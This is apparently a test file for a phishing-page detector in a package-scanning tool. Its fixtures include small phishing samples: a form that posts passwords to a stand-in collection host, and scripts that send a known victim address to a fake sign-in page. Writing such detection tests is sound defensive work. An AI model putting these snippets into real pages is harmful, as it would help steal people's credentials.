import assert from 'node:assert/strict';
import { analysePackage } from '../../server/src/artifacts/analysis/analyse.js';
import { phishingPage } from '../../server/src/rules/phishing-page.js';
import { artifactFacts, packageOf } from '../support/artifacts.js';
import { subject } from '../support/subjects.js';
import { draftsOf, onlyDraft } from './support/drafts-of.js';

const said = (files: Readonly<Record<string, string>>) =>
  draftsOf(phishingPage, subject(), { artifact: analysePackage(packageOf({ 'package.json': '{}', ...files })) }).map(
    ({ level, message }) => `${level}: ${message}`,
  );

const FORM = 'medium: some-package 1.0.0 has a page that sends passwords to collect.invalid';
const LURE =
  "medium: some-package 1.0.0 has a page that sends whoever opens it to sign-in.invalid, with an address of somebody's mail";

describe('phishing-page', () => {
  it('is a form for passwords that goes to another host', () => {
    const form = (action: string) =>
      `<form method=post action="${action}"><input name=mail><p><input type="PASSWORD" name=p></p></form>`;
    assert.deepEqual(said({ 'index.html': form('https://collect.invalid/post.php') }), [FORM]);
    assert.deepEqual(said({ 'docs/index.html': form('/login') }), []);
    assert.deepEqual(said({ 'docs/search.html': '<form action="https://search.example/"><input name=q></form>' }), []);
  });

  it('is a page that leads somebody on whose address it knows', () => {
    const mail = `var mail = 'victim@mail.invalid'; var to = 'https://sign-in.invalid/a';`;
    for (const go of [
      `location.href = to + '#' + mail`,
      `window.location.replace(to + '?e=' + mail)`,
      `document.location = to + '#' + mail`,
    ])
      assert.deepEqual(
        said({ 'lure.js': `${mail} document.addEventListener('DOMContentLoaded', () => { ${go}; });` }),
        [LURE],
      );
    assert.deepEqual(said({ 'index.html': `<script>${mail} location.assign(to + '#' + mail)</script>` }), [LURE]);
  });

  it('is not a page that leads elsewhere, or a link to somebody', () => {
    assert.deepEqual(said({ 'index.html': `<script>location.href = 'https://docs.example/'</script>` }), []);
    assert.deepEqual(said({ 'index.js': `exports.mail = () => { location.href = 'mailto:us@mail.invalid'; };` }), []);
    assert.deepEqual(
      said({ 'index.js': `exports.go = (mail) => { location.href = 'https://sign-in.example/?' + mail; };` }),
      [],
    );
  });

  it('says nothing where nothing is known', () => {
    assert.deepEqual(draftsOf(phishingPage, subject()), []);
    assert.deepEqual(draftsOf(phishingPage, subject(), { artifact: artifactFacts() }), []);
  });

  it('weighs more where it is new', () => {
    const artifact = analysePackage(
      packageOf({ 'package.json': '{}', 'a.html': '<form action=https://a.invalid><input type=password>' }),
    );
    assert.equal(
      onlyDraft(draftsOf(phishingPage, subject(), { artifact, previousArtifact: artifactFacts() })).level,
      'high',
    );
  });
});
